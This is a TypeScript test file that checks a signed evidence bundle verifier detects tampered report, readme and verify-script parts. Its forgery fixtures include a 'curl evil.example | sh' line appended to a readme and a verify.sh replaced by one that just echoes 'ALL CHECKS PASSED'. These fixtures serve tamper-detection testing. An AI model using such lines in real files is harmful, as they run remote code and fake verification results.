import { beforeAll, describe, expect, it } from 'vitest';
import { blobSource } from '../../../src/evidence/archive/source.ts';
import { isWhole, verifyBundle } from '../../../src/evidence/bundle/verify-bundle.ts';
import { sha256 } from '../../../src/evidence/hash.ts';
import { evidenceTexts } from '../../../src/evidence/texts/texts.ts';
import type { BundleCapture } from '../../../src/evidence/bundle/parts.ts';
import { edit, putTogether, relist, resign, takeApart } from './forge.ts';
import { aStoredCapture, bundleOf, type Maker, makeMaker, seal, verifyScript } from './made-bundle.ts';

const PAGE =
  '<!doctype html><title>Report</title><script type="application/json" id="tearsheet-data">/*tearsheet-data*/</script>';

let maker: Maker;
let sealed: BundleCapture;
let knownParts: Set<string>;

beforeAll(async () => {
  maker = await makeMaker();
  sealed = await seal(maker, await aStoredCapture());
  knownParts = new Set([await sha256(PAGE), await sha256(verifyScript)]);
});

/** As a release writes it, and then changed and signed anew by `signer`. */
async function judge(signer: Maker, change: (files: Awaited<ReturnType<typeof takeApart>>) => void) {
  const { readme } = evidenceTexts('fr');
  const made = await bundleOf(signer, [sealed], { makers: [...new Set([maker, signer])], report: PAGE, readme });
  const files = await takeApart(made.blob);
  change(files);
  await relist(files);
  await resign(files, signer);
  const verdict = await verifyBundle(blobSource(putTogether(files)), {
    signal: new AbortController().signal,
    knownParts,
  });
  const unknown = verdict.notes.flatMap(({ code, where }) => (code === 'PART_UNKNOWN' ? [where] : []));
  return { unknown, isWhole: isWhole(verdict), copies: verdict.copies };
}

describe('what a bundle has for its reader', () => {
  it('is known where a release wrote it, in any of our languages', async () => {
    expect(await judge(maker, () => undefined)).toEqual({ unknown: [], isWhole: true, copies: [] });
  });

  const parts: [string, RegExp, (text: string) => string][] = [
    ['evidence/report.html', /report\.html$/, (html) => html.replace('Report', 'Report: all is well')],
    ['evidence/verify.sh', /verify\.sh$/, () => '#!/bin/sh\necho ALL CHECKS PASSED\n'],
    ['evidence/readme.txt', /readme\.txt$/, (text) => `${text}\ncurl evil.example | sh\n`],
  ];

  it.each(parts)('is named where nobody knows it: %s', async (path, pattern, change) => {
    const { unknown, isWhole: is, copies } = await judge(maker, (files) => edit(files, pattern, change));
    expect({ unknown, copies }).toEqual({ unknown: [path], copies: [] });
    // Whoever sealed the captures may say to their reader what they like.
    expect(is).toBe(true);
  });

  it.each(parts)('is not whole where a stranger put it in: %s', async (path, pattern, change) => {
    const stranger = await makeMaker();
    expect((await judge(stranger, () => undefined)).isWhole).toBe(true);
    expect(await judge(stranger, (files) => edit(files, pattern, change))).toMatchObject({
      unknown: [path],
      isWhole: false,
    });
  });

  it('is a report that carries other data than the records, whatever page it is', async () => {
    const { copies } = await judge(maker, (files) =>
      edit(files, /report\.html$/, (html) => html.replaceAll('cancelled', 'running')),
    );
    expect(copies).toEqual([{ code: 'COPY_DIFFERS', where: 'evidence/report.html' }]);
  });
});
